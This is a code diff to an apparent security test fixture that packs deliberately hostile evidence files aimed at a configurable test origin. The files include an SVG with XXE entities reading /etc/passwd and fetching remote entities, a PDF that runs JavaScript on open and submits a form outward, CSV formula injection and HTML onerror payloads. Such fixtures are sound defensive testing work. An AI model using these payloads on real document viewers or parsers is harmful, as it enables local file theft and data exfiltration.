@@ -41,6 +41,26 @@ export function toHostileSvg(origin: string, name: string): string {
 </svg>`;
 }
 
+/** An SVG that asks for a file through an external entity and a style sheet, before it draws anything. */
+function toEntitySvg(origin: string): string {
+  return `<?xml version="1.0"?><?xml-stylesheet href="${origin}/entity-style" type="text/css"?>
+<!DOCTYPE svg [<!ENTITY outside SYSTEM "${origin}/entity-outside"><!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "${origin}/entity-parameter">%more;]>
+<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><text y="20">&outside;&file;</text><a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>`;
+}
+
+/** A PDF that runs script when it is opened, sends a form and asks for another file. */
+function toHostilePdf(origin: string): string {
+  return `%PDF-1.7
+1 0 obj <</Type/Catalog /Pages 2 0 R /OpenAction 3 0 R /AA <</WC 4 0 R>> /Names <</JavaScript <</Names [(a) 3 0 R]>>>>>> endobj
+2 0 obj <</Type/Pages /Kids [5 0 R] /Count 1>> endobj
+3 0 obj <</S/JavaScript /JS (app.alert\\('reached'\\); this.submitForm\\('${origin}/pdf-script'\\);)>> endobj
+4 0 obj <</S/URI /URI (${origin}/pdf-uri)>> endobj
+5 0 obj <</Type/Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA <</O <</S/GoToR /F (${origin}/pdf-goto) /D [0 /Fit]>>>>>> endobj
+trailer <</Root 1 0 R>>
+%%EOF
+`;
+}
+
 function toHostileMarkdown(origin: string): string {
   return `# Hostile words
 
@@ -79,7 +99,7 @@ Note.[^1]
 }
 
 export const HOSTILE_DOCUMENTS = ['docs/01-hostile.md', 'docs/02-more.md'];
-export const HOSTILE_EVIDENCE = ['E1', 'E2', 'E3', 'E4', 'E5', 'E6'];
+export const HOSTILE_EVIDENCE = ['E1', 'E2', 'E3', 'E4', 'E5', 'E6', 'E7', 'E8'];
 export const HOSTILE_NODES = ['G1', 'G2', 'Sn1'];
 
 /** Packs the case; everything in it points to `origin`. */
@@ -92,6 +112,8 @@ export async function packHostileCase(folder: string, origin: string): Promise<s
     ['E3', 'E3_words.md', 'text/markdown', markdown],
     ['E4', 'E4_values.json', 'application/json', JSON.stringify({ html, link: `${origin}/json`, __proto__x: { constructor: html } })],
     ['E5', 'E5_rows.csv', 'text/csv', `name,value\n"=HYPERLINK(""${origin}/csv"")","<img src=${origin}/csv-image onerror=alert(1)>"\n"@SUM(1)","javascript:alert(1)"\n`],
+    ['E7', 'E7_pages.pdf', 'application/pdf', toHostilePdf(origin)],
+    ['E8', 'E8_entities.svg', 'image/svg+xml', toEntitySvg(origin)],
     ['E6', 'E6_log.txt', 'text/plain', `${html}\n${origin}/text\n`],
   ]; // prettier-ignore
   const index = evidence.map(([id, file, mediaType, content]) => ({ id, file, mediaType, title: `<img src=${origin}/title-${id}> ${id}`, bytes: Buffer.byteLength(content), sha256: createHash('sha256').update(content).digest('hex') })); // prettier-ignore
